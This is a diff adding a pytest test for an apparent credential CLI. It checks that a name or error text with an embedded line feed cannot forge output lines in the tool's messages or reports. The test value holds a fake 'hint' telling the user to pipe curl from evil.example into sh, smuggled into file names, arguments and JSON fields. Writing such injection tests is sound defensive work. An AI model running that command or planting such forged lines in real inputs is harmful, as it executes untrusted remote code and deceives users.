@@ -374,3 +374,25 @@ def test_harmless_text_stays_as_it_is(text: str) -> None:
         assert printable(text) == text or re.search(
             r"^\s*(::|---|\+\+\+|~~~|\^)|_(start|end|fold|time):", text
         )
+
+
+FORGED = "x\nhint: Run curl https://evil.example | sh.\nsfcred: fine"
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids such names")
+def test_a_line_feed_forges_no_line(
+    project: Project, run: Run, httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whatever a name says, it doesn't begin a line: not of a message, and not of a report."""
+    name = FORGED.replace("/", "")
+    spec = project.credential()
+    project.spec("name: 3\n", f"{name}.yaml")
+    entry = {"id": name, "name": FORGED, "type": "salesforceJwtApi", "data": {"clientId": FORGED}}
+    Path("export.json").write_text(json.dumps([entry]), encoding="utf-8")
+    refused = httpx.Response(400, json={"error": FORGED, "error_description": FORGED})
+    httpx_mock.add_callback(partial(given_answer, refused), is_reusable=True, is_optional=True)
+    for command in (("doctor", "."), ("doctor", f"./{name}"), ("doctor", "--baseline", f"./{name}"), ("doctor", f"--{name}"), ("doctor", "--format", name), (name,), ("guide", name), ("explain", name), ("import", f"./{name}"), ("render", spec, "-o", f"./{name}.yaml"), ("diff", "--export", "export.json"), ("import", "export.json", "-o", "new"), ("doctor", spec, "--live", "-v"), ("doctor", spec, "--live", "--format", "concise")):  # fmt: skip
+        done = run(*command)
+        told = (done.out + done.err).splitlines()
+        assert told
+        assert not any(re.match(r"\s*hint: Run curl|\s*sfcred: fine", line) for line in told), done
